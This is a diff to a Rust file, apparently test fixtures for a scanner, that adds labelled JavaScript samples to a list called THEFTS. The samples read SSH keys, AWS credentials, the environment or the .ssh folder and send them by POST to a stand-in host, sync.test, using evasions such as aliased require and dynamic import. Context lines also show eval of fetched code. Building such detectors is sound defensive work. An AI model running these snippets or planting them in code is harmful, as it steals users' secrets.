@@ -154,6 +154,34 @@ const THEFTS: &[(&str, &str)] = &[
         "promise",
         "const fs = require('fs');\nconst read = (p) => new Promise((ok) => fs.readFile(p, 'utf8', (e, d) => ok(d)));\nread('/root/.ssh/id_rsa').then((d) => fetch('https://sync.test/a', { method: 'POST', body: d }));\n",
     ),
+    (
+        "piped stream",
+        "const fs = require('fs');\nconst https = require('https');\nfs.createReadStream('/root/.ssh/id_rsa').pipe(https.request({ hostname: 'sync.test', method: 'POST' }));\n",
+    ),
+    (
+        "alias of require",
+        "const load = require;\nconst fs = load('fs');\nload('https').get('https://sync.test/?d=' + fs.readFileSync('/root/.ssh/id_rsa').toString('base64'));\n",
+    ),
+    (
+        "environment by key",
+        "const e = process['env'];\nfetch('https://sync.test/a', { method: 'POST', body: JSON.stringify(e) });\n",
+    ),
+    (
+        "environment import",
+        "import { env } from 'node:process';\nawait fetch('https://sync.test/a', { method: 'POST', body: new URLSearchParams(env) });\n",
+    ),
+    (
+        "folder",
+        "const fs = require('fs');\nconst path = require('path');\nconst dir = path.join(require('os').homedir(), '.ssh');\nfs.readdirSync(dir).forEach((f) => {\n  fetch('https://sync.test/a', { method: 'POST', body: fs.readFileSync(path.join(dir, f)) });\n});\n",
+    ),
+    (
+        "static method",
+        "const fs = require('fs');\nclass Tool {\n  static read() { return fs.readFileSync('/root/.aws/credentials', 'utf8'); }\n  static async run() { await fetch('https://sync.test/a', { method: 'POST', body: Tool.read() }); }\n}\nTool.run();\n",
+    ),
+    (
+        "then import",
+        "import('node:child_process').then(({ execSync }) => {\n  const k = execSync('cat ~/.ssh/id_rsa').toString();\n  return fetch('https://sync.test/a', { method: 'POST', body: k });\n});\n",
+    ),
     ("eval of fetched", "const r = await fetch('https://cdn.test/x.js');\neval(await r.text());\n"),
     ("function of decoded", "const f = new Function(atob('Y29uc29sZS5sb2coImhlbGxvIik7'));\nf();\n"),
     (
